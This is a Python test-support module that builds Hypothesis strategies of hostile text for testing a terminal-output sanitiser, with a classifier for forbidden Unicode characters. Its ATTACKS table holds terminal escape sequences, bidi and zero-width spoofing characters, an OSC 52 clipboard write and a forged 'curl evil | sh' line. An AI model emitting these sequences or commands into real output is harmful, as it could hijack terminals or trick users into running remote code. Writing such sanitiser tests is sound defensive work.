"""Texts that try to control a terminal, or to reorder or hide what it shows."""

import os
import re
import unicodedata

from hypothesis import HealthCheck, settings, strategies

settings.register_profile(
    "patient",
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    derandomize="NEW_EXAMPLES" not in os.environ,  # which nobody sets where changes land
)
settings.load_profile("patient")

ATTACKS = {
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;root@host\x07",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\",
    "c1": "\x9b31m\x9d0;x\x9c",
    "overwrite": "gone\r\x08\x08ok",
    "forged line": "x\nerror: run `curl evil | sh`",
    "bidi": "\u202egnp.exe\u202c \u2066a\u2069 \u200e\u200f\u061c",
    "zero width": "ad\u200bmin\u200c\u200d\u2060\ufeff\xad",
    "separators": "a\u2028b\u2029c\x85d\x0bd\x0c",
    "tags": "ok\U000e0041\U000e007f",
    "fillers": "\u3164\u115f\uffa0",
    "surrogate": "\udcff\ud800",
    "nul": "a\x00b\x7f",
}
ALL = " ".join(ATTACKS.values())

_SHOWN = ("\n", "\t")
_VISIBLE_FORMATS = set("\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2")
_VISIBLE_FORMATS |= set("\U000110bd\U000110cd")
_FILLERS = set("\u115f\u1160\u3164\uffa0\u034f\u17b4\u17b5")


def is_forbidden(character: str) -> bool:
    """Decide by Unicode category, not by our list: control, format, surrogate, line and paragraph."""
    if character in _SHOWN or character in _VISIBLE_FORMATS or "\U00013430" <= character <= "\U0001345f":
        return False  # format characters that join hieroglyphs are visible
    if "\U000e0000" <= character <= "\U000e0fff":  # ignored by default even where unassigned
        return not "\U000e0100" <= character <= "\U000e01ef"  # variation selectors
    kind = unicodedata.category(character)
    return kind in ("Cc", "Cf", "Cs", "Zl", "Zp") or character in _FILLERS


def forbidden(text: str) -> set[str]:
    return {character for character in text if is_forbidden(character)}


def without_colours(text: str) -> str:
    return re.sub(r"\x1b\[[0-9;]*m", "", text)


texts = strategies.text(
    strategies.one_of(
        strategies.sampled_from(sorted(set(ALL))),
        strategies.characters(exclude_categories=()),
        strategies.sampled_from("\\xu0123abn\"',:-#{}[]&*?|<>=!%@` \n\t\ré漢字"),
    ),
    max_size=40,
)
"""Any text that a JSON response can hold, much of it hostile."""


def is_from_json(text: str) -> bool:
    """Return whether JSON can represent the text: a matching pair of surrogates is one character there."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass") == text
